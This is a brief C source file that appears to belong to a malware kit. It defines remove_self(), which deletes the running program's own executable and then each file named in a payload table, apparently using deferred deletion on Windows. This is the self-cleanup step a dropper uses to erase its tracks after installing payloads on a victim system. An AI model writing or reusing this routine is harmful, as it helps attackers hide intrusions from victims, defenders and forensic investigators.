#include "self_removal.h"

#include "deferred_deletion.h"
#include "kit/own_path.h"
#include "kit/payload_table.h"
#include "platform/text.h"

int remove_self() {
  OSVERSIONINFOA version;
  bytes_zero(&version, sizeof version);
  version.dwOSVersionInfoSize = sizeof version;
  if (!GetVersionExA(&version)) return 0;
  remove_file(own_path(), version.dwPlatformId);
  for (int i = 0; i < MAX_PAIRS && PAYLOAD_NAMES[i][0]; ++i) {
    char path[MAX_PATH];
    bytes_zero(path, MAX_PATH);
    // A path that does not fit would name some other file: skip it.
    if (payload_path(path, MAX_PATH, PAYLOAD_NAMES[i])) remove_file(path, version.dwPlatformId);
  }
  return 1;
}
